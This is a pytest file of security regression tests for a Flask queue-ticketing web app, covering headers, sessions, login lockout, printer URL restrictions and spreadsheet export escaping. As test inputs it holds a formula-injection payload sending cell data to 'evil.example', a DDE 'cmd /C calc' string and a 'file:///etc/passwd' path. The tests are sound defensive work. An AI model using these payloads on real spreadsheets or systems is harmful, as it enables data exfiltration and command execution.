"""Issue 11, items 9-12: sessions, security headers, printer URLs from the web, and the
smaller ones (takeovers recorded, sign-in throttled and timed alike, exports that no
spreadsheet runs, a private database file, python-escpos's cache in the instance folder)."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import build_app
from tests.integration.helpers import Staff, device_token, issue, password

SECURITY_HEADERS = {"X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff"}


def _csrf(client: Any, path: str = "/login") -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get(path).get_data(as_text=True))
    assert found
    return found.group(1)


def _login(client: Any, username: str, password: str, lang: str = "vi") -> Any:
    token = _csrf(client)
    return client.post(
        f"/login?lang={lang}",
        data={"username": username, "password": password, "csrf_token": token},
    )


def _assert_secured(resp: Any, what: str) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert resp.headers.get(name) == value, (what, name, resp.headers.get(name))
    # Pages that carry a token in their address (the phone's) keep even their own origin out.
    assert resp.headers.get("Referrer-Policy") in ("same-origin", "no-referrer"), what
    csp = resp.headers.get("Content-Security-Policy", "")
    assert "default-src 'self'" in csp and "script-src 'self'" in csp, (what, csp)
    assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, (what, csp)


# --- 10. headers --------------------------------------------------------------------------


def test_every_kind_of_page_and_answer_carries_the_security_headers(app: Any) -> None:
    ticket = issue(app.test_client(), app)
    device = app.test_client()
    device.get(f"/pair/{device_token(app, 'kiosk')}")
    board = app.test_client()
    board.get(f"/pair/{device_token(app, 'board')}")
    admin = Staff(app, "admin")
    officer = Staff(app, "canbo1")
    anonymous = app.test_client()
    answers = {
        "home": anonymous.get("/"),
        "login": anonymous.get("/login"),
        "phone": anonymous.get(f"/t/{ticket['token']}"),
        "lookup": anonymous.get("/tra-cuu"),
        "kiosk": device.get("/kiosk"),
        "board": board.get("/display"),
        "counter": officer.get("/counter?counter=1"),
        "admin": admin.get("/admin"),
        "admin staff": admin.get("/admin/staff"),
        "api": anonymous.get("/api/v1/services"),
        "api error": anonymous.get("/api/v1/tickets/nope"),
        "404 page": anonymous.get("/no-such-page"),
        "static": anonymous.get("/static/css/base.css"),
        "health": anonymous.get("/healthz"),
    }
    for what, resp in answers.items():
        assert resp.status_code < 500, (what, resp.status_code)
        _assert_secured(resp, what)
        assert "Strict-Transport-Security" not in resp.headers, what  # plain http here
    for page in ("kiosk", "board", "counter", "admin", "phone"):
        html = answers[page].get_data(as_text=True)
        assert not re.search(r"\sstyle=", html), f"{page} has a style= attribute the CSP blocks"
        assert not re.search(r"\son[a-z]+=", html), f"{page} has an inline handler the CSP blocks"
        scripts = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", html)
        assert all('type="application/json"' in s for s in scripts), (page, scripts)


def test_under_https_cookies_are_secure_and_hsts_is_sent(
    db_url: str, tmp_path: Path, clock: Any, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUBLIC_BASE_URL", "https://hcc.example")
    secure = build_app(db_url, tmp_path / "https", clock, PUBLIC_BASE_URL="https://hcc.example")
    client = secure.test_client()
    r = _login(client, "canbo1", password(app, "canbo1"))
    assert r.status_code == 302
    cookie = r.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie
    assert r.headers["Strict-Transport-Security"].startswith("max-age=")
    paired = client.get(f"/pair/{device_token(app, 'kiosk')}")
    assert "Secure" in paired.headers["Set-Cookie"]
    monkeypatch.delenv("PUBLIC_BASE_URL")
    monkeypatch.setenv("LOBBY_ENV", "production")
    monkeypatch.setenv("SECRET_KEY", "a-real-secret-for-this-test")
    production = build_app(db_url, tmp_path / "prod", clock)
    r = _login(production.test_client(), "canbo1", password(app, "canbo1"))
    assert "Secure" in r.headers["Set-Cookie"]
    # Plain http in development: no Secure flag (the browser would drop the cookie), no HSTS.
    plain = app.test_client()
    r = _login(plain, "canbo1", password(app, "canbo1"))
    assert "Secure" not in r.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in r.headers


def test_a_proxys_headers_count_only_when_a_proxy_is_configured(
    db_url: str, tmp_path: Path, clock: Any, app: Any
) -> None:
    forwarded = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9"}
    token = device_token(app, "kiosk")
    direct = app.test_client().get(f"/pair/{token}", headers=forwarded)
    assert "Secure" not in direct.headers["Set-Cookie"]  # anyone can send these headers
    assert "Strict-Transport-Security" not in direct.headers
    behind = build_app(db_url, tmp_path / "proxied", clock, LOBBY_PROXY_COUNT=1)
    board = device_token(app, "board")  # a pairing link pairs one device: another link here
    proxied = behind.test_client().get(f"/pair/{board}", headers=forwarded)
    assert "Secure" in proxied.headers["Set-Cookie"]
    assert "Strict-Transport-Security" in proxied.headers


# --- 9. sessions --------------------------------------------------------------------------


def test_signing_out_ends_the_session_on_the_server_so_a_copied_cookie_stops_working(
    app: Any,
) -> None:
    officer = Staff(app, "canbo1")
    assert officer.get("/api/v1/counters/1/queue").status_code == 200
    copy = app.test_client()
    cookie = officer.client.get_cookie("session")
    assert cookie is not None
    copy.set_cookie("session", cookie.value)
    assert copy.get("/api/v1/counters/1/queue").status_code == 200  # the copy works while signed in
    r = officer.client.post("/logout", data={"csrf_token": officer.csrf})
    assert r.status_code == 302 and r.headers["Location"].endswith("/login")
    assert officer.get("/api/v1/counters/1/queue").status_code == 401
    assert copy.get("/api/v1/counters/1/queue").status_code == 401  # the copied cookie is dead too
    again = Staff(app, "canbo1")  # signing in again works
    assert again.get("/api/v1/counters/1/queue").status_code == 200


def test_signing_out_needs_a_post_with_the_pages_csrf_token(app: Any) -> None:
    officer = Staff(app, "canbo1")
    assert officer.client.get("/logout").status_code == 405
    forged = officer.client.post("/logout")  # another site's form: no token
    assert forged.status_code == 403
    assert "Phiên làm việc đã hết hạn" in forged.get_data(as_text=True)
    assert officer.get("/api/v1/counters/1/queue").status_code == 200  # still signed in
    for page in ("/counter?counter=1", "/admin"):
        html = officer.get(page).get_data(as_text=True)
        form = re.search(r'<form method="post" action="/logout"[^>]*>(.*?)</form>', html, re.S)
        assert form and 'name="csrf_token"' in form.group(1), page
        assert 'href="/logout"' not in html


def test_a_staff_session_ends_after_a_working_day_without_a_request(app: Any, clock: Any) -> None:
    from lobby.config import from_environment

    default = from_environment(app.instance_path)["LOBBY_SESSION_IDLE_SECONDS"]
    assert default == 10 * 3600  # a working day
    app.config["LOBBY_SESSION_IDLE_SECONDS"] = default
    officer = Staff(app, "canbo1")
    clock.advance(hours=9)
    assert (
        officer.get("/api/v1/counters/1/queue").status_code == 200
    )  # used: the idle time restarts
    clock.advance(hours=9)
    assert officer.get("/api/v1/counters/1/queue").status_code == 200
    clock.advance(hours=10, minutes=1)  # a night without a request
    assert officer.get("/api/v1/counters/1/queue").status_code == 401


def test_the_session_cookie_holds_nothing_secret_or_personal(app: Any) -> None:
    officer = Staff(app, "canbo1")
    cookie = officer.client.get_cookie("session")
    assert cookie is not None
    with app.test_request_context():
        data = app.session_interface.get_signing_serializer(app).loads(cookie.value)
    assert set(data) <= {"csrf_token", "user_id", "pw", "ep", "seen", "_permanent", "_flashes"}
    text = repr(data)
    for secret in ("canbo1", "Nguyễn Văn Một", password(app, "canbo1")):
        assert secret not in text


# --- 12. sign-in: same time, and a lock after ten failures ---------------------------------


def test_too_many_wrong_passwords_lock_the_account_for_15_minutes_said_kindly(
    app: Any, clock: Any
) -> None:
    client = app.test_client()
    for _ in range(10):
        assert _login(client, "canbo1", "wrong").status_code == 401
    locked = _login(client, "canbo1", password(app, "canbo1"))
    assert locked.status_code == 429
    page = locked.get_data(as_text=True)
    assert "tạm khóa 15 phút" in page and "Vui lòng thử lại sau" in page
    english = _login(client, "canbo1", password(app, "canbo1"), lang="en")
    assert "locked for 15 minutes" in english.get_data(as_text=True)
    assert _login(app.test_client(), "canbo2", password(app, "canbo2")).status_code == 302
    # An unknown name is locked the same way: the lock tells nothing about who exists.
    for _ in range(10):
        _login(client, "khongco", "wrong")
    assert _login(client, "khongco", "wrong").status_code == 429
    clock.advance(minutes=15, seconds=1)
    assert _login(app.test_client(), "canbo1", password(app, "canbo1")).status_code == 302
    # A success clears the count: nine more failures do not lock it again.
    for _ in range(9):
        _login(client, "canbo1", "wrong")
    assert _login(app.test_client(), "canbo1", password(app, "canbo1")).status_code == 302


def test_an_unknown_username_takes_as_long_to_refuse_as_a_wrong_password(
    app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cost of a refusal is one password check of the same kind either way, so the time
    does not tell whether the username exists. Counted, not timed: a timing on a loaded
    machine proved nothing and failed now and then."""
    from werkzeug.security import check_password_hash

    import lobby.auth

    checked: list[str] = []

    def counting(pwhash: str, password: str) -> bool:
        checked.append(pwhash.split("$", 1)[0])  # the method and its cost, e.g. pbkdf2:sha256:1000
        return check_password_hash(pwhash, password)

    monkeypatch.setattr(lobby.auth, "check_password_hash", counting)
    for username in ("canbo1", "nobody-here"):
        client = app.test_client()
        token = _csrf(client)
        r = client.post("/login", data={"username": username, "password": "x", "csrf_token": token})
        assert r.status_code == 401
    method = app.config["LOBBY_PASSWORD_METHOD"]
    assert checked == [method, method], checked


# --- 11. printer URLs from the web admin ----------------------------------------------------


def _add_kiosk(admin: Staff, printer: str) -> str:
    r = admin.client.post(
        "/admin/staff",
        data={
            "csrf_token": admin.csrf,
            "action": "device_add",
            "kind": "kiosk",
            "name": "Kiosk thử máy in",
            "printer": printer,
            "once": os.urandom(8).hex(),
        },
        follow_redirects=True,
    )
    assert r.status_code == 200
    return str(r.get_data(as_text=True))


def _printers(app: Any) -> list[str | None]:
    from lobby.extensions import db
    from lobby.models import Device

    with app.app_context():
        return list(db.session.scalars(db.select(Device.printer_url).order_by(Device.id)))


def test_the_web_admin_may_not_point_a_printer_at_any_file(
    app: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    admin = Staff(app, "admin")
    before = _printers(app)
    victim = tmp_path_factory.mktemp("outside") / "victim.txt"  # outside the instance folder
    refused = [
        f"file://{victim}",
        "file:///etc/passwd",
        f"file://{app.instance_path}/../outside.bin",
        f"file://{app.instance_path}",
        "serial:///etc/passwd",
        "memory://kiosk-x",
    ]
    for url in refused:
        page = _add_kiosk(admin, url)
        assert "Từ trang quản trị chỉ đặt được máy in mạng" in page, (
            url,
            re.findall(r"class=\"flash[^<]*", page),
        )
    assert _printers(app) == before
    assert not victim.exists()
    allowed = [
        "network://192.168.1.50:9100",
        "usb://0x04b8:0x0202",
        "serial:///dev/ttyUSB0?baudrate=19200",
        "cups://TM-T20",
        "agent://?width=384",
        f"file://{app.instance_path}/printer-out.bin",
        "file:///dev/usb/lp0",
    ]
    for url in allowed:
        page = _add_kiosk(admin, url)
        assert "Từ trang quản trị" not in page, url
    assert _printers(app)[len(before) :] == allowed


def test_the_command_line_may_still_name_any_printer_file(app: Any, tmp_path: Path) -> None:
    out = app.test_cli_runner().invoke(
        args=["devices", "create", "kiosk", "Kiosk CLI", "--printer", f"file://{tmp_path}/p.bin"]
    )
    assert out.exit_code == 0, out.output
    assert _printers(app)[-1] == f"file://{tmp_path}/p.bin"


# --- 12. takeovers, exports, database file, escpos cache ----------------------------------


def test_a_forced_counter_takeover_is_recorded_and_shown_to_the_leader(app: Any) -> None:
    holder = Staff(app, "canbo1")
    holder.open_counter(1)
    leader = Staff(app, "lanhdao")
    assert leader.post("/api/v1/counters/1/open").status_code == 409  # held: needs force
    assert "Nhận quầy thay" not in leader.get("/admin").get_data(as_text=True)
    r = leader.post("/api/v1/counters/1/open", {"force": True})
    assert r.status_code == 200, r.get_json()
    page = leader.get("/admin").get_data(as_text=True)
    section = page[page.index('id="takeovers"') :]
    row = re.search(
        r"<tr><td>08:00 30/11/2026</td><td>1</td><td>([^<]+)</td><td>([^<]+)</td>", section
    )
    assert row and row.groups() == ("Trần Thị Mẫu", "Nguyễn Văn Một")


def _rename(app: Any, field_name: str, counter_name: str) -> None:
    from lobby.extensions import db
    from lobby.models import Counter, Field

    with app.app_context():
        db.session.execute(
            db.update(Field).where(Field.code == "ho_tich").values(name_vi=field_name)
        )
        db.session.execute(db.update(Counter).where(Counter.number == 1).values(name=counter_name))
        db.session.commit()
        app.extensions["lobby"].reference.clear()


def test_report_exports_never_hand_a_formula_to_a_spreadsheet(app: Any) -> None:
    from openpyxl import load_workbook

    evil_field = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    evil_counter = "@SUM(1+1)*cmd|' /C calc'!A0"
    _rename(app, evil_field, evil_counter)
    issue(app.test_client(), app)
    officer = Staff(app, "canbo1")
    officer.open_counter(1)
    assert officer.call_next(1).status_code == 200
    leader = Staff(app, "lanhdao")
    r = leader.get("/api/v1/stats/export?format=csv")
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.get_data(as_text=True))) for c in row]
    assert "'" + evil_field in cells and "'" + evil_counter in cells, "|".join(cells)
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    r = leader.get("/api/v1/stats/export?format=xlsx")
    book = load_workbook(io.BytesIO(r.data))
    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.value for c in values if c.data_type == "f"]
    assert "'" + evil_field in [c.value for c in values]


def test_the_procedures_csv_is_safe_in_a_spreadsheet_and_loads_back_unchanged(app: Any) -> None:
    admin = Staff(app, "admin")
    from lobby.extensions import db
    from lobby.models import Procedure

    with app.app_context():
        first = db.session.scalars(db.select(Procedure).order_by(Procedure.id)).first()
        assert first is not None
        first.fee_text = "-50.000 đồng (miễn cho hộ nghèo)"
        first.name_vi = "=1+2 Đăng ký khai sinh"
        db.session.commit()
        code = first.code
    text = admin.get("/admin/procedures.csv").get_data(as_text=True)
    row = next(r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if r["ma"] == code)
    assert row["ten"] == "'=1+2 Đăng ký khai sinh" and row["phi"].startswith("'-50.000")
    r = admin.client.post(
        "/admin/procedures",
        data={
            "csrf_token": admin.csrf,
            "action": "import",
            "file": (io.BytesIO(text.encode("utf-8")), "thu-tuc.csv"),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert r.status_code == 200
    with app.app_context():
        again = db.session.scalar(db.select(Procedure).where(Procedure.code == code))
        assert again.name_vi == "=1+2 Đăng ký khai sinh"
        assert again.fee_text == "-50.000 đồng (miễn cho hộ nghèo)"


def test_the_sqlite_file_is_readable_by_the_server_only(tmp_path: Path, clock: Any) -> None:
    from flask_migrate import upgrade

    path = tmp_path / "fresh.sqlite3"
    made = build_app(f"sqlite:///{path}", tmp_path, clock)
    with made.app_context():
        upgrade()
        from lobby.extensions import db

        db.engine.dispose()
    assert path.stat().st_mode & 0o777 == 0o600


def test_printing_processes_keep_the_escpos_cache_in_the_instance_folder(tmp_path: Path) -> None:
    temp, instance = tmp_path / "tmp", tmp_path / "instance"
    temp.mkdir()
    env = {**os.environ, "TMPDIR": str(temp), "LOBBY_INSTANCE_PATH": str(instance)}
    env.pop("ESCPOS_CAPABILITIES_PICKLE_DIR", None)
    code = (
        "import printers.escpos_out, escpos.capabilities as c;"
        "print(c.pickle_dir, c.full_load, len(c.CAPABILITIES['profiles']) > 10)"
    )
    root = Path(__file__).resolve().parents[2]
    runs = [
        subprocess.run(
            [sys.executable, "-c", code], env=env, cwd=root, capture_output=True, text=True
        )
        for _ in range(2)
    ]
    for run in runs:
        assert run.returncode == 0, run.stderr
    assert runs[0].stdout.split() == [str(instance / "escpos-cache"), "False", "True"]
    assert runs[1].stdout.split() == [str(instance / "escpos-cache"), "False", "True"]
    assert list(temp.iterdir()) == []  # nothing left in the temporary folder
    assert [
        p.name.endswith(".capabilities.pickle") for p in (instance / "escpos-cache").iterdir()
    ] == [True]


def test_a_symlink_inside_the_instance_folder_cannot_lead_out(
    app: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside") / "outside.txt"
    link = Path(app.instance_path) / "printer-link"
    link.symlink_to(outside)
    page = _add_kiosk(Staff(app, "admin"), f"file://{link}")
    assert "Từ trang quản trị chỉ đặt được máy in mạng" in page
